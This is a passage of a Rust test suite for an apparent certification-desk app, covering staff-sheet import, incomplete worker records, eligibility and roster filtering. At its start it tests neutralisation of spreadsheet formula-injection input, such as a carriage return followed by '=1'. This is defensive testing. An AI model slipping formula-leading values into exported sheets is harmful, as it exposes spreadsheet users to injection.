        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("021-64870000", "021-64870000"),
        ("", ""),
    ] {
        assert_eq!(certdesk_sheet::neutralise(cell), shown, "{cell:?}");
    }
    // The xlsx roster keeps the name as it is: a text cell is never a formula there.
    let xlsx = dir.path().join("roster.xlsx");
    desk.export_roster(&me, &xlsx, RosterFormat::Xlsx, &all).unwrap();
    let mut book: Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let range = book.worksheet_range("持证人员名册").unwrap();
    assert_eq!(range.rows().nth(1).unwrap()[4], Data::String(hostile.into()));
}

/// Issue 13 item 7: an agency's existing staff sheet lacking addresses and emergency contacts
/// goes in as 待补全 instead of being refused; the report, the worker page and the home list say
/// what is missing; a worker cannot apply until the record is complete; a wrong identity is
/// still refused.
#[test]
fn a_staff_sheet_without_addresses_or_emergency_contacts_goes_in_to_be_completed() {
    let dir = tempfile::tempdir().unwrap();
    let (mut desk, me) = fresh(dir.path());
    let file = dir.path().join("staff.xlsx");
    let mut no_address = good_row(0);
    no_address[3] = C::Blank;
    let mut no_contact = good_row(1);
    no_contact[5] = C::Blank;
    no_contact[6] = C::Blank;
    let complete = good_row(2);
    let mut wrong_identity = good_row(3);
    wrong_identity[3] = C::Blank;
    wrong_identity[1] = s("11010519491231002"); // 17 characters
    let mut wrong_contact_phone = good_row(4);
    wrong_contact_phone[6] = s("12345");
    write_xlsx(&file, &HEADERS, &[no_address, no_contact, complete, wrong_identity, wrong_contact_phone]);
    let bytes = std::fs::read(&file).unwrap();

    let preview = desk.preview_import(&bytes, &ImportOptions { preview_rows: 10, ..Default::default() }).unwrap();
    let statuses: Vec<&str> = preview.preview.iter().map(|r| r.status.code()).collect();
    assert_eq!(statuses, ["to_complete", "to_complete", "ok", "invalid", "invalid"]);
    assert_eq!((preview.valid_rows, preview.to_complete, preview.invalid_rows), (3, 2, 2));

    let report = desk.import_workers(&me, &bytes, &ImportOptions::default(), &mut |_, _| {}).unwrap();
    assert_eq!((report.imported, report.to_complete, report.invalid_rows), (3, 2, 2));
    let notes: Vec<(usize, &str, &str)> = report
        .issues
        .iter()
        .filter(|i| i.code == "to_complete")
        .map(|i| (i.row, i.severity.code(), i.message_zh.as_str()))
        .collect();
    assert_eq!(
        notes,
        [
            (2, "note", "已登记为待补全：缺少住址，补全后才能申领"),
            (3, "note", "已登记为待补全：缺少紧急联系人姓名、紧急联系人电话，补全后才能申领"),
        ]
    );
    let refused: Vec<(usize, &str)> = report.issues.iter().filter(|i| i.severity.code() == "error").map(|i| (i.row, i.field.as_deref().unwrap())).collect();
    assert_eq!(refused, [(5, "id_number"), (6, "emergency_contact_phone")], "a wrong identity or a wrong detail is still refused");

    let ids = &report.worker_ids;
    assert_eq!(desk.worker_detail(&ids[0]).unwrap().missing_details, ["address"]);
    assert_eq!(desk.worker_detail(&ids[1]).unwrap().missing_details, ["emergency_contact_name", "emergency_contact_phone"]);
    assert!(desk.worker_detail(&ids[2]).unwrap().missing_details.is_empty());
    let home: Vec<(String, Vec<String>)> = desk.workers_to_complete(10).unwrap().into_iter().map(|w| (w.id, w.missing)).collect();
    assert_eq!(home, [(ids[0].clone(), vec!["address".to_string()]), (ids[1].clone(), vec!["emergency_contact_name".into(), "emergency_contact_phone".into()])]);

    // Trained and examined, the incomplete one still cannot apply, and is told why.
    certdesk_testkit::desk::complete_training(&mut desk, &me, &ids[..1], "90");
    let eligibility = desk.worker_eligibility(&ids[0]).unwrap();
    assert!(!eligibility.eligible);
    assert_eq!(eligibility.missing.iter().map(|m| m.code.as_str()).collect::<Vec<_>>(), ["details_missing"]);
    assert_eq!(desk.worker(&ids[0]).unwrap().status.code(), "in_training");
    let err = desk.apply_worker(&me, &ids[0]).unwrap_err();
    assert!(err.message_zh.contains("待补全：缺少住址"), "{}", err.message_zh);

    // Completed with a correction, the worker becomes eligible and may apply.
    let w = desk.worker(&ids[0]).unwrap();
    let mut form = certdesk_testkit::desk::worker_form(&w.name, &w.id_number);
    form.form.phone = w.phone.clone();
    form.form.address = "上海市徐汇区龙华路9号".into();
    desk.update_worker(&me, &ids[0], &form, None).unwrap();
    assert_eq!(desk.worker(&ids[0]).unwrap().status.code(), "eligible");
    assert_eq!(desk.workers_to_complete(10).unwrap().len(), 1);
    assert_eq!(desk.apply_worker(&me, &ids[0]).unwrap().status.code(), "applied");

    // The enrolment form still needs every detail.
    let mut blank = certdesk_testkit::desk::worker_form("赵六", &id(9));
    blank.form.address = String::new();
    let err = desk.enrol_worker(&me, &blank).unwrap_err();
    assert_eq!(err.fields.iter().map(|f| f.field.as_str()).collect::<Vec<_>>(), ["address"]);
}

/// What a clerk types for the roster's statuses (the CLI's `--status`): `all` for everyone,
/// codes in any case; anything else is refused naming it, before a file is written.
#[test]
fn a_roster_filter_reads_what_a_clerk_types_and_names_a_status_that_is_not_one() {
    use certdesk_domain::WorkerStatus;
    let everyone = RosterFilter::typed(&["eligible".into(), " ALL ".into()], None, None).unwrap();
    assert!(everyone.everyone && everyone.statuses.is_empty(), "all wins over the statuses beside it");
    let some = RosterFilter::typed(&["Eligible".into(), " issued".into()], None, None).unwrap();
    assert_eq!((some.everyone, some.statuses), (false, vec![WorkerStatus::Eligible, WorkerStatus::Issued]));
    let certified = RosterFilter::typed(&[], None, None).unwrap();
    assert!(!certified.everyone && certified.statuses.is_empty(), "none typed: the certified ones");
    let e = RosterFilter::typed(&["retired".into()], None, None).unwrap_err();
    assert_eq!((e.code.as_str(), e.message_en.as_str()), ("status_invalid", "Status \"retired\" is invalid"));
}
